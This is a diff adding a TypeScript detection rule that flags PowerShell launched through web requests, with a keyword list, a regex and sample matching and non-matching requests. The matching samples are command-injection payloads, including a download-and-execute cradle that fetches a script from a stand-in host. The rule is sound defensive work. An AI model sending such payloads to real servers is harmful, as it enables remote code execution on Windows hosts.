@@ -1,0 +1,50 @@
+import { defineRule } from '../rule.ts'
+
+export default defineRule({
+  id: 'cmdi/powershell',
+  title: 'PowerShell launched from a request',
+  why: 'Starts PowerShell with hidden, encoded or downloaded code: the usual second step on Windows servers.',
+  ja: {
+    title: 'リクエストからの PowerShell 起動',
+    why: '隠しウィンドウ・エンコード・ダウンロードしたコードで PowerShell を起動しようとしています。Windows サーバーへの侵入でよく使われる次の一手です。',
+  },
+  severity: 'critical',
+  stage: 'execute',
+  attack: ['T1059.001'],
+  cwe: [78],
+  refs: [
+    'https://attack.mitre.org/techniques/T1059/001/',
+    'https://learn.microsoft.com/powershell/module/microsoft.powershell.core/about/about_powershell_exe',
+  ],
+
+  where: ['path', 'query', 'referrer', 'agent', 'user'],
+  needs: [
+    [
+      'powershell',
+      'pwsh',
+      'invoke-expression',
+      'invoke-webrequest',
+      'downloadstring',
+      'downloadfile',
+      'frombase64string',
+      'new-object net.webclient',
+      'start-process',
+    ],
+  ],
+  match:
+    /(?:powershell|pwsh)(?:\.exe)?["']?[\s+]{1,4}(?:-|\/)?(?:e(?:nc|ncodedcommand|c)?|nop|noprofile|[wc("]|windowstyle|command|ep|exec|executionpolicy|noni|sta|iex|invoke|wget|curl|ls|dir|start)[\s+"'(]|\b(?:invoke-(?:expression|webrequest)|start-process)\s[$"'(h-]|\.download(?:string|file)\s?\(|frombase64string\s?\(|new-object\s+(?:system\.)?net\.webclient/i,
+
+  hits: [
+    'GET /a?x=;powershell%20-enc%20SQBFAFgA HTTP/1.1',
+    "GET /a?x=IEX(New-Object%20Net.WebClient).DownloadString('http://203.0.113.9/a.ps1') HTTP/1.1",
+    'GET /a?cmd=powershell.exe+-nop+-w+hidden+-c+calc HTTP/1.1',
+  ],
+  misses: [
+    {
+      request: 'GET / HTTP/1.1',
+      agent: 'Mozilla/5.0 (Windows NT; en-US) WindowsPowerShell/5.1.19041',
+    },
+    'GET /course/powershell-basics?level=1 HTTP/1.1',
+    'GET /q?text=powershell+tutorial HTTP/1.1',
+  ],
+})
